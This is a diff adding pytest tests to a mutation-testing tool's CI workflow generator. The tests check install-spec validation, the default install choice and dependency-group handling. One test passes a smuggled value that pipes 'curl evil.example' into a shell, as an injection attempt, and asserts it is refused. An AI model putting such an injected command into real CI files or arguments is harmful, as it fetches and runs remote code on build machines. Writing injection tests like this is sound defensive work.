@@ -206,3 +206,52 @@ def test_annotations_stop_at_ten_per_file_and_count_the_rest(tmp_path: Path) -> 
     assert "mutagate: 3 more undetected mutants in pkg/a.py not annotated (the job summary lists them)" in lines
     assert lines[-1].startswith("::warning file=pkg/b.py,line=99,endLine=99,title=mutagate%3A comparison-boundary")
     assert "- <%0A+ <=%0A(mutagate show 000000000063)" in lines[-1]
+
+
+def test_an_install_spec_that_is_not_one_line_is_refused_and_one_that_is_stays_one_scalar(repo: GitRepo) -> None:
+    _project(repo, PEP621)
+    injected = mutagate("ci", "github", "--install", "mutagate\nrun: curl evil.example | sh", cwd=repo.root)
+    assert_bad_input(injected, "--install must be one pip requirement on one line", "'\\n'")
+    assert not (repo.root / ".github").exists()  # nothing written
+    assert_bad_input(mutagate("ci", "gitlab", "--install", "mutagate\r", cwd=repo.root), "control character")
+    odd = 'mutagate @ git+https://example.org/m.git@abc # "quoted": yes'
+    done = mutagate("ci", "github", "--install", odd, cwd=repo.root)
+    assert done.returncode == 0, done.stderr
+    for name in ("mutagate-pr.yml", "mutagate-nightly.yml"):
+        text = (repo.root / ".github/workflows" / name).read_text()
+        assert yaml.safe_load(text)["env"]["MUTAGATE_PIP"] == odd  # one scalar, read back exactly
+        header = text.split("\nname:", 1)[0].splitlines()
+        assert all(line.startswith("#") for line in header)
+
+
+def test_the_default_install_is_one_that_works_and_says_so() -> None:
+    from scheduler.ci.install import choose_install
+
+    git = "mutagate @ git+https://github.com/acme/mutagate@0123abc"
+    assert choose_install("0.3.0", git, True, None)[0] == git  # exactly this copy first
+    assert choose_install("0.3.0", None, True, git) == ("mutagate==0.3.0",
+                                                       "the package index, where this version is published")
+    spec, why = choose_install("0.3.0", None, False, git)  # not published: the clone's remote and commit
+    assert spec == git and "not on the package index" in why
+    spec, why = choose_install("0.3.0", None, False, None)  # nothing works: said, with what to do
+    assert spec == "mutagate==0.3.0" and why.startswith("could not infer a working install") and "--install" in why
+    assert "could not be checked" in choose_install("0.3.0", None, None, None)[1]  # offline
+    assert choose_install("0+unknown", None, None, None)[0] == "mutagate"
+
+
+def test_a_dependency_group_gets_a_pip_that_reads_it_and_missing_test_dependencies_are_said(repo: GitRepo) -> None:
+    _project(repo, '[project]\nname = "shop"\nversion = "1"\n\n[dependency-groups]\ndev = ["pytest", "httpx"]\n')
+    done = mutagate("ci", "github", "--install", "mutagate", cwd=repo.root)
+    assert done.returncode == 0, done.stderr
+    steps = yaml.safe_load((repo.root / ".github/workflows/mutagate-pr.yml").read_text())["jobs"]["mutagate"]["steps"]
+    install = next(s for s in steps if s.get("name") == "Install the project and mutagate")["run"]
+    assert "pip install --upgrade 'pip>=25.1'" in install and "pip install --group dev" in install
+    assert "dependency group dev (pip>=25.1)" in done.stdout and "could not infer" not in done.stdout
+
+    other = GitRepo(repo.root.parent / "bare")
+    _project(other, '[project]\nname = "shop"\nversion = "1"\n')
+    done = mutagate("ci", "github", "--install", "mutagate", cwd=other.root)
+    assert done.returncode == 0, done.stderr
+    assert "could not infer the test dependencies" in done.stdout
+    text = (other.root / ".github/workflows/mutagate-pr.yml").read_text()
+    assert "python -m pip install pytest" in text and "could not infer the test dependencies" in text  # in the header too
